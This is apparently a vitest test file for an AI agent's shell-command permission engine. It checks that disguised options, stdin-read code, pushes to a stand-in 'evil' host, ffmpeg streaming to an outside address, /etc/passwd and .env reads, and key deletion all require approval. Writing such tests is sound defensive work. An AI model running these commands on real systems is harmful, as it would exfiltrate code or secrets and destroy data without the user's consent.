import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTestEngine, type TestEngine } from '../test-engine.ts';

/** What a rule for a program doesn't cover, in spellings that hide an option, its value, or where code comes from. */
describe('a rule for a program, and', () => {
  let engine: TestEngine;
  beforeAll(async () => {
    engine = await makeTestEngine();
  });
  afterAll(() => engine.fixture.remove());
  const decided = (
    line: string,
    rules: readonly string[] = [`Bash(${line.split(' ')[0] ?? ''} *)`],
    deny: readonly string[] = [],
  ): string => engine.bash(line, engine.context({ allow: rules, deny })).behavior;

  it.each([
    'ssh -4oProxyCommand=x host',
    'ssh -46F./x host',
    'ssh -4A host',
    'scp -3S ./x a.txt h:',
    'git push -4f',
    `perl -0777ne 'x' a.txt`,
    'perl -5e x',
    'ruby -0ne x',
    'rake -4e x',
  ])('letters joined with a digit: %s', (line) => expect(decided(line)).toBe('ask'));

  it.each(['ssh -4 host', 'git push -4', 'perl x.pl -0ne'])('a digit alone: %s', (line) => expect(decided(line)).toBe('allow'));

  const READERS = ['python', 'node', 'perl', 'ruby', 'php', 'lua', 'bun', 'deno run', 'docker compose up -f', 'docker build -f'];
  it.each(READERS.flatMap((reader) => ['/dev/stdin', '//dev/./stdin', '/proc/self/fd/0'].map((input) => `${reader} ${input} .`)))(
    'its input as a file: %s',
    (line) => expect(decided(line)).toBe('ask'),
  );
  it('its input joined with an option', () => {
    expect(decided('docker compose -f/dev/stdin up')).toBe('ask');
    expect(decided('docker compose --file=/dev/stdin up')).toBe('ask');
  });

  it.each(['git notes add -fF', 'git ls-files -oX', 'gh pr create -dF', 'pip install -qr', 'mytool -vxf', 'mytool +f', 'mytool --file:'])(
    'a file joined with its option: %sFILE',
    (start) => {
      const rule = [`Bash(${start.split(' ')[0] ?? ''} *)`];
      expect(decided(`${start}../outside/o.txt`, rule)).toBe('ask');
      expect(decided(`${start}.env`, rule, ['Read(.env)'])).toBe('ask');
      expect(decided(`${start}secrets/k.env`, rule, ['Read(secrets/**)'])).toBe('ask');
      expect(decided(`${start}a.txt`, rule)).toBe('allow');
    },
  );
  it('names of options, and images with a user, aren’t files elsewhere', () => {
    expect(decided('docker build -tuser/app .')).toBe('allow');
    expect(decided('mytool -verbose -Dname=x')).toBe('allow');
  });

  it.each(['--push-o x evil:y', '--recurse-submodules no evil:y', '-qo x evil:y', '-uo x https://evil/x', '--rep evil:y'])(
    'another address behind a value: git push %s',
    (words) => expect(decided(`git push ${words}`)).toBe('ask'),
  );
  it.each(['-o ci.skip origin main', '-uo ci.skip origin main', '--push-option=x origin', '--recurse-submodules=no origin'])(
    'a remote behind a value: git push %s',
    (words) => expect(decided(`git push ${words}`)).toBe('allow'),
  );

  it.each(['git remote add x https://evil', 'git remote -v add x https://evil', 'git remote set-url --push origin git@evil:x'])(
    'where later pushes go: %s',
    (line) => {
      expect(decided(line)).toBe('ask');
      expect(decided(line, ['Bash(git remote *)'])).toBe('allow');
      expect(decided('git remote -v')).toBe('allow');
      expect(decided('git commit -m "remote add" a.txt')).toBe('allow');
    },
  );

  it.each([
    'git reflog drop HEAD',
    'php -R x',
    'php -E x',
    'php -a',
    'rails runner x',
    'rails app:template LOCATION=https://x/y',
    'mix run -e x',
    'mix cmd rm x',
    'swift -e x',
    'deno npm:x',
    'deno run --import-map=https://x/y a.ts',
    `java -XX:OnError='rm x' A`,
    'bazel build --run_under=x //y',
    'rustc --codegen=linker=x a.rs',
    'rustup run nightly rm x',
    'mvn org.x:y:1:z',
    './mvnw exec:exec -Dexec.executable=x',
    'go fix -fixtool x',
    'scp -D ./x a.txt h:',
    'python -m poetry run x',
    'python -m asyncio',
    'python -m venv --clear src',
    'uv venv -c src',
    'yarn global add x',
    'bun add -g x',
    'pnpm setup',
    'kubectl scale --replicas 0 deploy/x',
    `rsync -a --filter='merge ../x' a b`,
    `rsync -a --filter='. /etc/passwd' a b`,
    'http https://x.org a=@b.txt',
    'http https://x.org a:=@b.txt',
    'http -f https://x.org f@a.txt',
    `psql -c "select lo_export(1, 'x')"`,
    `psql -c "select pg_read_file('x')"`,
    '7z a x.7z @list',
    '7z x x.7z -spf',
    'nx exec -- rm x',
    'lerna exec rm x',
    'tox exec -- rm x',
    'pre-commit try-repo https://x.org/y',
    'hg extdiff -p x',
    'hg update -C',
    'svn --config-option x st',
    'pandoc a.md -t ./x.lua',
    'ffmpeg -i a.mp4 tcp://x.org:1',
    'gpg --agent-program ./x -k',
    'aws kms schedule-key-deletion --key-id x',
  ])('code, other folders, what can’t be undone: %s', (line) => expect(decided(line)).toBe('ask'));

  it.each([
    'rails db:migrate',
    'mix test',
    'swift build',
    'deno add npm:x',
    'java -jar x.jar',
    'mvn test',
    'mvn dependency:tree',
    'mvn org.apache.maven.plugins:maven-dependency-plugin:3.6.0:tree',
    'bazel build //x:y',
    'rustup show',
    'python -m venv .venv',
    'uv venv --clear .venv',
    'kubectl scale --replicas 2 deploy/x',
    `rsync -a --filter=':- .gitignore' a b`,
    'python -m poetry install',
    'php x.php -a',
    'http https://x.org email=me@y.org',
    'http https://me@x.org/@scope/name',
    'psql -c "select * from pg_stat_activity"',
    '7z a x.7z src',
    'nx build x',
    'lerna run x',
    'tox -e py',
    'hg update tip',
    'svn st',
    'pandoc a.md -o b.html',
    'ffmpeg -i https://x.org/a.mp4 b.mp4',
    'gpg -k',
    `yq '.on' .github/workflows/ci.yml`,
  ])('everyday use: %s', (line) => expect(decided(line)).toBe('allow'));

  it.each([
    'mvn -l .envrc test',
    'javac -d .husky a.java',
    'bazel build --build_event_json_file=.envrc //x',
    'dotnet build -flp:logfile=.envrc',
    'rustc --emit link=.envrc a.rs',
    'java -Xlog:gc:file=.envrc A',
    'gh repo clone o/.vscode',
    'gh repo clone o/r .husky',
    'tar xf a.tar -C .github',
    'unzip a.zip -d .config',
    '7z x a.7z -o.github',
    `yq -i '.a = 1' .github/workflows/ci.yml`,
    `yq --inplace --expression='.a = 1' .github/workflows/ci.yml`,
  ])('a protected path as output: %s', (line) => expect(decided(line)).toBe('ask'));
  it.each(['gh repo clone o/r', 'gh repo clone o/r x', 'tar xf a.tar -C src', 'javac -d out a.java'])('another place: %s', (line) =>
    expect(decided(line)).toBe('allow'),
  );
});
